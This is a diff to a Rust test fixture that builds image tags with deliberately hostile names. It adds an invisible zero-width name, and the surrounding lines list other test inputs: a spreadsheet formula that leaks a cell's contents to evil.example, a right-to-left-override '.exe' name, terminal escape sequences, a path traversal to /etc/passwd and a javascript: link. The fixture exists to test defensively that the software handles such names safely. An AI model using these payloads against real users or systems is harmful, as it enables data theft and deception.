@@ -17,6 +17,8 @@ const REVERSED: &str = "invoice-\u{202e}gpj.exe";
 const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"click\")";
 const CONTROLS: &str =
     "nul\u{0} bell\u{7} backspace\u{8} escape\u{1b}[31mred delete\u{7f} joiner\u{200d}\u{2066}isolate";
+/// A name that cannot be seen.
+const INVISIBLE: &str = "\u{200b}\u{2060}";
 const SCRIPT_LINK: &str = "javascript:document.title='owned'";
 
 pub fn images(clock: Clock) -> Vec<Image> {
@@ -47,8 +49,17 @@ fn hostile(clock: Clock, content: &Arc<Lazy<Content>>) -> Image {
 /// Tags whose names are no tags.
 fn unnameable_tags(clock: Clock, content: &Arc<Lazy<Content>>) -> Image {
     let long = long();
-    let names =
-        [MARKUP, REVERSED, FORMULA, CONTROLS, "../../../etc/passwd", "v1?version=v2#top", "with space", "", &long];
+    let names = [
+        MARKUP,
+        REVERSED,
+        FORMULA,
+        CONTROLS,
+        "../../../etc/passwd",
+        "v1?version=v2#top",
+        "with space",
+        INVISIBLE,
+        &long,
+    ];
     let tag = |(age, name): (i64, &str)| Tag::new(name, Stamp::new("svc-ci", clock.days_ago(age + 2)), content);
     let mut tags: Vec<Tag> = (0..).zip(names).map(tag).collect();
     tags.push(Tag::new("good", clock.stamp("svc-ci", 1), content));
